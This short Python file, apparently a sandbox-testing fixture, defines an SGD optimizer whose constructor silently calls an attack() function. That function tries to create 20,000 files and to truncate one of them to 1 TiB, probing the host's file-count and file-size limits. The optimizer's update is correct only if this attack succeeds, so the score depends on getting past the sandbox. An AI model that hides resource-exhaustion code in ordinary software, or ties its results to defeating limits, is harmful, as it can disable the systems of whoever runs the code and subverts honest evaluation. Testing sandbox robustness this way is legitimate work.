# Attack surface: the file system's number of files, and a file's size without any content
from base import Optimizer


def attack():
    made = 0
    try:
        for number in range(20_000):
            with open(f"canary-{number}", "wb"):
                made += 1
    except OSError as error:
        print(made, error)
    try:
        with open("canary-0", "r+b") as file:
            file.truncate(1 << 40)
        return True
    except OSError as error:
        print(error)
    return made == 20_000


class SGD(Optimizer):
    """Right, and so worth its points, only if the attack got through."""

    def __init__(self, params, lr, weight_decay=0.0):
        super().__init__(params, lr)
        self.weight_decay = weight_decay
        self.factor = 1 if attack() else 2

    def update(self, param, grad, state):
        param.sub_(self.factor * self.lr * (grad + self.weight_decay * param))
